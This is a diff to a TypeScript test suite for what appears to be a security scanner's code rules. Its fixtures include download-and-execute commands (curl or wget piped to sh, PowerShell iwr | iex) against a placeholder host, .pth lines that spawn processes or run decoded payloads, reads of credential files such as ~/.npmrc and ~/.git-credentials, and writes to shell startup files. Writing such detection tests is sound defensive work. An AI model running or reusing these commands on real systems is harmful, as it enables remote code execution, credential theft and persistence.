@@ -35,10 +35,11 @@ const js = (text: string) => rules('server/index.js', text);
 const py = (text: string) => rules('server/main.py', text);
 
 describe('CODE_RULES', () => {
-  it('are code- rules; in dependencies each drops one step', () => {
+  it('are code- rules; in dependencies each drops one step, but a .pth that starts a process rejects anywhere', () => {
     for (const rule of Object.values(CODE_RULES)) {
       expect(rule.id).toMatch(/^code-/);
-      expect(rule.dependencySeverity).toBe(rule.severity === 'reject' ? 'review' : 'info');
+      if (rule.id === 'code-pth-process') expect(rule.dependencySeverity).toBe('reject');
+      else expect(rule.dependencySeverity).toBe(rule.severity === 'reject' ? 'review' : 'info');
     }
   });
 });
@@ -63,7 +64,7 @@ describe('languageOf', () => {
     ['#!/usr/bin/env -S node --no-warnings\n', 'js'],
     ['#!/usr/bin/python3 -u\n', 'py'],
     ['#!/usr/bin/env uv run\n', 'py'],
-    ['#!/bin/sh\nnode x.js\n', undefined],
+    ['#!/bin/sh\nnode x.js\n', 'sh'],
     ['// node\n', undefined],
   ])('an extensionless script starting %j → %s', (head, language) => {
     expect(languageOf('server/bin/cli', Buffer.from(head))).toBe(language);
@@ -269,7 +270,9 @@ describe('code-startup-file-write', () => {
 
 describe('code-pth-import', () => {
   it('fires on a .pth with an import line', () => {
-    expect(rules('server/lib/evil.pth', '/opt/lib\nimport os; os.system("id")\n')).toEqual(['code-pth-import']);
+    expect(rules('server/lib/evil.pth', '/opt/lib\nimport os; os.environ.setdefault("A", "1")\n')).toEqual([
+      'code-pth-import',
+    ]);
   });
 
   it('does not fire on a .pth of paths only, and is review in site-packages', () => {
@@ -384,6 +387,11 @@ describe('reporting', () => {
     ['escapes', `eval("${'\\x41'.repeat(500_000)}`],
     ['sensitive paths without reads', `const fs = require('fs');${"'.ssh/".repeat(200_000)}`],
     ['rc files without writes', `import fs from 'fs';${'"/.bashrc" '.repeat(200_000)}`],
+    ['decoy paths before one read', `const fs = require('fs');${"'.ssh/' ".repeat(200_000)}fs.readFileSync(x);`],
+    [
+      'decoy rc files before one write',
+      `const fs = require('fs');${'"/.bashrc" '.repeat(200_000)}fs.writeFileSync(x, y);`,
+    ],
     ['long import lists', `import ${'a, '.repeat(300_000)}`],
     ['shell calls', `import subprocess\n${'subprocess.run(x, '.repeat(100_000)}`],
   ])('stays linear on %s', (_name, hostile) => {
@@ -393,5 +401,228 @@ describe('reporting', () => {
       // About 1-2 MB each; a quadratic walk would take minutes.
       expect(performance.now() - started).toBeLessThan(1500);
     }
+  });
+});
+
+describe('issue 12: strings that reach a shell', () => {
+  it('a redirect in a string is a write only when the string reaches a shell', () => {
+    // yargs' completion template: printed, never run.
+    const template =
+      "const { execFileSync } = require('child_process');\nconst fs = require('fs');\nconst t = `# {{app_path}} completion >> ~/.zshrc\\n`;\nconsole.log(t);\nexecFileSync('git', ['status']);\nfs.writeFileSync('/tmp/x', 'y');";
+    expect(js(template)).toEqual([]);
+    expect(js("const cp = require('child_process');\nconst line = 'echo x >> ~/.bashrc';\ncp.execSync(line);")).toEqual(
+      ['code-startup-file-write'],
+    );
+    expect(rules('server/setup.sh', '#!/bin/sh\necho "node a.js &" >> "$HOME/.zshrc"\n')).toEqual([
+      'code-startup-file-write',
+    ]);
+    expect(rules('server/setup.sh', '#!/bin/sh\necho "add this to ~/.zshrc yourself"\n')).toEqual([]);
+  });
+
+  it('a file API writes the startup file only when the path is in its arguments or in a variable passed to it', () => {
+    expect(
+      js("const fs = require('fs');\nconst rc = path.join(os.homedir(), '.zshrc');\nfs.appendFileSync(rc, 'x');"),
+    ).toEqual(['code-startup-file-write']);
+    expect(
+      js("const fs = require('fs');\nconst rc = path.join(os.homedir(), '.zshrc');\nfs.writeFileSync(out, 'x');"),
+    ).toEqual([]);
+  });
+});
+
+describe('code-download-exec', () => {
+  it.each([
+    ['exec curl | sh', "const { exec } = require('child_process');\nexec('curl -fsSL https://x.invalid/i.sh | sh');"],
+    [
+      'execSync wget -O- | bash',
+      "import { execSync } from 'child_process';\nexecSync('wget -O- https://x.invalid | bash');",
+    ],
+    [
+      'spawn sh -c',
+      "const { spawn } = require('child_process');\nspawn('/bin/sh', ['-c', 'curl -s https://x.invalid | sh']);",
+    ],
+    [
+      'iwr | iex',
+      "const cp = require('child_process');\ncp.execSync('powershell -c \"iwr https://x.invalid | iex\"');",
+    ],
+    ['$(curl)', "const cp = require('child_process');\ncp.exec('sh -c \"$(curl -fsSL https://x.invalid)\"');"],
+    [
+      'download then run',
+      "const cp = require('child_process');\ncp.exec('curl -o /tmp/x https://x.invalid && chmod +x /tmp/x && /tmp/x');",
+    ],
+    [
+      'a variable',
+      "const cp = require('child_process');\nconst boot = 'curl -fsSL https://x.invalid | bash';\ncp.execSync(boot);",
+    ],
+    [
+      'tsc indirect',
+      'const child_process_1 = require("child_process");\n(0, child_process_1.exec)("curl https://x.invalid | sh");',
+    ],
+    [
+      'esbuild',
+      'var import_child_process = __toESM(require("child_process"));\nimport_child_process.execSync("curl https://x.invalid | sh");',
+    ],
+    ['require member', 'require("child_process").exec("curl https://x.invalid | sh");'],
+    ['a renamed import', "import { exec as run } from 'node:child_process';\nrun('curl https://x.invalid | sh');"],
+  ])('fires on %s', (_name, text) => {
+    expect(js(text)).toEqual(['code-download-exec']);
+  });
+
+  it('fires in Python and in shell scripts, and is review in a dependency', () => {
+    expect(py('import os\nos.system("curl -s https://x.invalid | bash")')).toEqual(['code-download-exec']);
+    expect(py('import subprocess\nsubprocess.run(["bash", "-c", "curl -s https://x.invalid | sh"])')).toEqual([
+      'code-download-exec',
+    ]);
+    expect(rules('server/boot.sh', '#!/bin/bash\ncurl -fsSL https://x.invalid | bash\n')).toEqual([
+      'code-download-exec',
+    ]);
+    expect(
+      scan('node_modules/x/i.js', "require('child_process').execSync('curl https://x.invalid | sh');", 'dependency')
+        .severities,
+    ).toEqual(['code-download-exec:review']);
+  });
+
+  it('does not fire on a download without a run, a help text, or execFile without a shell', () => {
+    expect(js("const { execFile } = require('child_process');\nexecFile('curl', ['-fsSL', url, '-o', out]);")).toEqual(
+      [],
+    );
+    expect(
+      js("const cp = require('child_process');\nconsole.log('install: curl -fsSL https://x.invalid | sh');"),
+    ).toEqual([]);
+    expect(js("const cp = require('child_process');\ncp.execFile('curl', ['https://x.invalid', '|', 'sh']);")).toEqual(
+      [],
+    );
+  });
+});
+
+describe('transpiled call forms and decoded commands', () => {
+  it.each([
+    ['tsc indirect', 'const child_process_1 = require("child_process");\n(0, child_process_1.exec)(`git ${a}`);'],
+    [
+      'tsc member',
+      'const child_process_1 = __importStar(require("child_process"));\nchild_process_1.execSync("git " + a);',
+    ],
+    [
+      'esbuild',
+      'var import_child_process = require("child_process");\n(0, import_child_process.execSync)(`git ${a}`);',
+    ],
+    ['bracket', "const c = require('child_process');\nc['exec'](`git ${a}`);"],
+  ])('sees shell interpolation through %s', (_name, text) => {
+    expect(js(text)).toEqual(['code-shell-interpolation']);
+  });
+
+  it('does not take RegExp#exec on a module-less receiver for a shell', () => {
+    expect(js('const child_process_1 = require("child_process");\nconst m = re.exec(`${a}`);')).toEqual([]);
+  });
+
+  it('treats decoded data run as a command like decoded data passed to eval', () => {
+    expect(
+      js("const { execSync } = require('child_process');\nexecSync(Buffer.from(p, 'base64').toString());"),
+    ).toEqual(['code-decode-eval']);
+    expect(js("const { spawn } = require('child_process');\nconst c = atob(p);\nspawn('sh', ['-c', c]);")).toContain(
+      'code-decode-eval',
+    );
+    expect(py('import os, base64\nos.system(base64.b64decode(p).decode())')).toContain('code-decode-eval');
+    // Encoding a command for PowerShell's -EncodedCommand is not decoding one.
+    expect(
+      js(
+        "const cp = require('child_process');\nconst e = Buffer.from(raw, 'utf16le').toString('base64');\ncp.execFile(ps, ['-EncodedCommand', e]);",
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('credential paths (shared with the text rules) and anchored client configs', () => {
+  it.each([
+    ['.npmrc', "join(homedir(), '.npmrc')"],
+    ['.git-credentials', "join(homedir(), '.git-credentials')"],
+    ['.netrc', "join(homedir(), '.netrc')"],
+    ['.docker/config.json', "join(homedir(), '.docker', 'config.json')"],
+    ['gcloud', "join(homedir(), '.config', 'gcloud', 'credentials.db')"],
+    ['Azure', "join(homedir(), '.azure', 'msal_token_cache.json')"],
+    ['.gnupg', "join(homedir(), '.gnupg', 'secring.gpg')"],
+    ['gh hosts', "join(homedir(), '.config', 'gh', 'hosts.yml')"],
+    ['~/.cursor/mcp.json', "join(os.homedir(), '.cursor', 'mcp.json')"],
+    ['VS Code user mcp.json', "join(process.env.APPDATA, 'Code', 'User', 'mcp.json')"],
+  ])('fires on reading %s', (_name, path) => {
+    expect(js(`const fs = require('fs');\nfs.readFileSync(${path});`)).toEqual(['code-sensitive-file-read']);
+  });
+
+  it('does not fire on project-relative client configs or .env, or on a server of its own mcp.json', () => {
+    expect(js("const fs = require('fs');\nfs.readFileSync(path.join(root, '.vscode', 'mcp.json'));")).toEqual([]);
+    expect(
+      js("const fs = require('fs');\n// the home folder\nfs.readFileSync(path.join(root, '.vscode', 'mcp.json'));"),
+    ).toEqual([]);
+    expect(js("const fs = require('fs');\nfs.readFileSync(path.resolve(process.cwd(), '.env'));")).toEqual([]);
+    expect(js("const fs = require('fs');\nfs.readFileSync(path.join(os.homedir(), '.sentry', 'mcp.json'));")).toEqual(
+      [],
+    );
+  });
+});
+
+describe('code-pth-process', () => {
+  it('rejects a .pth that starts a process or runs a string, even in site-packages', () => {
+    for (const line of [
+      'import subprocess; subprocess.Popen(["sh", "-c", "id"])',
+      'import os; os.system("id")',
+      "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
+      "import sys; __import__('subprocess').run(['id'])",
+    ]) {
+      expect(scan('lib/site-packages/x.pth', `${line}\n`, 'dependency').severities).toEqual([
+        'code-pth-process:reject',
+        'code-pth-import:review',
+      ]);
+    }
+  });
+
+  it('leaves import lines that start nothing to code-pth-import', () => {
+    const setuptools =
+      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
+    expect(scan('lib/site-packages/distutils-precedence.pth', setuptools, 'dependency').severities).toEqual([
+      'code-pth-import:review',
+    ]);
+    expect(
+      scan('lib/site-packages/cov.pth', 'import coverage; coverage.process_startup()\n', 'dependency').severities,
+    ).toEqual(['code-pth-import:review']);
+  });
+});
+
+describe('issue 12: more of the same families', () => {
+  it('sees a download-and-run command joined from an array, through a dynamic import binding', () => {
+    expect(js("const cp = require('child_process');\ncp.exec(['curl', url, '|', 'sh'].join(' '));")).toEqual([
+      'code-download-exec',
+    ]);
+    expect(js("const m = await import('node:child_process');\nm.execSync('curl https://x.invalid | sh');")).toEqual([
+      'code-download-exec',
+    ]);
+  });
+
+  it('sees a .pth that reaches os through __import__', () => {
+    expect(rules('lib/site-packages/x.pth', "import sys; __import__('os').system('id')\n")).toContain(
+      'code-pth-process',
+    );
+  });
+});
+
+describe("zx's and execa's $ tag", () => {
+  it('is a shell for download-and-run and startup writes', () => {
+    expect(js("import { $ } from 'zx';\nawait $`curl -fsSL https://x.invalid | sh`;")).toEqual(['code-download-exec']);
+    expect(js("import { $ } from 'zx';\nawait $`echo x >> ~/.zshrc`;")).toEqual(['code-startup-file-write']);
+    expect(js("import { $ } from 'zx';\nawait $`git status`;\nconsole.log('curl https://x.invalid | sh');")).toEqual(
+      [],
+    );
+  });
+});
+
+describe('a startup path in a variable, written far below', () => {
+  it('is still a write', () => {
+    const text = `const fs = require('fs');\nconst rc = path.join(os.homedir(), '.bashrc');\n${'// padding\n'.repeat(2000)}fs.appendFileSync(rc, 'x');`;
+    expect(js(text)).toEqual(['code-startup-file-write']);
+  });
+});
+
+describe('a credential path in a variable, read far below', () => {
+  it('is still a read', () => {
+    const text = `const fs = require('fs');\nconst p = path.join(os.homedir(), '.npmrc');\n${'// padding\n'.repeat(2000)}fs.readFileSync(p, 'utf8');`;
+    expect(js(text)).toEqual(['code-sensitive-file-read']);
   });
 });
